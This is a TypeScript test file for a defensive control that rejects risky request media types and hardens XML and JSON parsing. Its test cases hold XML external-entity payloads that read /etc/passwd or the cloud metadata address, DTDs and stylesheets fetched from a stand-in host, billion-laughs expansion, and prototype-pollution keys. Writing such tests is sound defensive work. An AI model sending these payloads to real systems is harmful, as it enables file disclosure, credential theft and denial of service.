import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Control } from "../core/control.ts";
import { Refusal } from "../core/error-reason.ts";
import type { Exchange } from "../core/exchange.ts";
import { currentDeployment } from "../primitives/deployment.ts";
import { sketchExchange } from "../testing/exchange.ts";
import { FORMAT_ACCEPTED, jsonText, xmlAndDeserialization, xmlText } from "./xml-and-deserialization.ts";

function reasonOf(work: () => unknown): string {
  try {
    work();
    return "accepted";
  } catch (error) {
    if (error instanceof Refusal) return error.decision.reason;
    throw error;
  }
}

describe("xmlAndDeserialization", () => {
  const control = xmlAndDeserialization({ accept: { "/soap": "xmlText, then a parser without entities" } });
  const decide = (mediaType: string, pattern = "/x", method = "POST"): string => {
    const exchange = sketchExchange({ method, headers: { "Content-Type": mediaType } });
    exchange.pattern = pattern;
    const decision = (control as Control<Exchange>).decide?.(exchange);
    return decision instanceof Promise ? "promise" : decision?.kind === "deny" ? decision.reason : "allow";
  };

  it.each([
    "text/xml",
    "application/xml; charset=utf-16",
    "APPLICATION/SOAP+XML",
    "image/svg+xml",
    "application/xml-dtd",
    "application/xml-external-parsed-entity",
    "application/yaml",
    "text/x-yaml",
    "application/openapi+yaml",
    "application/x-java-serialized-object",
    "application/vnd.php.serialized",
    "application/x-python-pickle",
  ])("refuses a body of %s before it is read", (mediaType) => {
    expect(decide(mediaType)).toBe("media_type_unsupported");
  });

  it("lets data pass, requests without a body, and the route that is named", () => {
    for (const mediaType of [
      "application/json",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
    ])
      expect(decide(mediaType)).toBe("allow");
    expect(decide("text/xml", "/x", "GET")).toBe("allow");
    expect(decide("text/xml", "/soap")).toBe("allow");
    expect(decide("text/xml", "/soap/other")).toBe("media_type_unsupported");
  });

  it("notes what a route accepts, and refuses a route without a reason", () => {
    expect(control.check(currentDeployment("production"))).toMatchObject([{ rule: FORMAT_ACCEPTED }]);
    expect(xmlAndDeserialization().check(currentDeployment("production"))).toEqual([]);
    expect(() => xmlAndDeserialization({ accept: { "/soap": " " } })).toThrow(/what reads it/u);
    expect(() => xmlAndDeserialization({ acept: {} } as never)).toThrow(/Did you mean "accept"/u);
  });
});

describe("xmlText", () => {
  it.each([
    ["a file by an entity", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ["an address by an entity", '<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/">]><a>&x;</a>'],
    ["a parameter entity", '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;]><a/>'],
    ["a document type of elsewhere", '<!DOCTYPE a SYSTEM "http://evil.test/a.dtd"><a/>'],
    ["a billion laughs", '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'],
    ["an undeclared entity", "<a>&x;</a>"],
    ["an inclusion", '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>'],
    [
      "an inclusion under another prefix",
      '<a xmlns="http://www.w3.org/2001/XInclude"><include href="/etc/passwd"/></a>',
    ],
    ["a stylesheet", '<?xml-stylesheet href="http://evil.test/x.xsl"?><a/>'],
    ["another encoding", '<?xml version="1.0" encoding="utf-7"?><a/>'],
    ["a lower-case document type", "<!doctype a><a/>"],
    ["too deep", `${"<a>".repeat(300)}${"</a>".repeat(300)}`],
    ["too long", `<a>${"x".repeat(1_100_000)}</a>`],
    ["a tag of endlessly many attributes", `<a${' b="c"'.repeat(170_000)}/>`],
    ["unclosed", "<a>"],
    ["nothing", ""],
  ])("refuses %s", (_, text) => {
    expect(reasonOf(() => xmlText(text))).toBe("body_malformed");
  });

  it("gives plain documents back as they are", () => {
    const plain = '<?xml version="1.0" encoding="UTF-8"?>\n<a x="1"><b>&lt;ä&#x1f600;</b><!-- note --></a>';
    expect(xmlText(plain)).toBe(plain);
  });
});

describe("jsonText", () => {
  it("reads back what JSON writes", () => {
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 10 }), (value) => {
        const text = JSON.stringify(value);
        fc.pre(!/"(?:__proto__|constructor|prototype)"/u.test(text));
        expect(JSON.stringify(jsonText(text))).toBe(text);
      }),
    );
  });

  it("refuses keys that reach a prototype, at any depth and in any spelling", () => {
    for (const text of ['{"__proto__":{}}', '[{"a":{"constructor":1}}]', '{"\\u005f_proto__":1}', '{"prototype":1}'])
      expect(reasonOf(() => jsonText(text))).toBe("key_forbidden");
    expect(jsonText('["__proto__","constructor"]')).toEqual(["__proto__", "constructor"]);
  });

  it("refuses what is too deep or too long before it is built, and what is no JSON", () => {
    expect(reasonOf(() => jsonText("[".repeat(100_000)))).toBe("body_too_deep");
    expect(jsonText(`${"[".repeat(32)}${"]".repeat(32)}`)).toBeDefined();
    expect(jsonText(JSON.stringify({ text: "[".repeat(100), quote: '"[[[' }))).toBeDefined();
    expect(reasonOf(() => jsonText("[1]", { maxLength: 2 }))).toBe("body_malformed");
    for (const text of ["", "{", "undefined", "NaN", "[1,]", 7 as unknown as string])
      expect(reasonOf(() => jsonText(text))).toBe("body_malformed");
  });
});
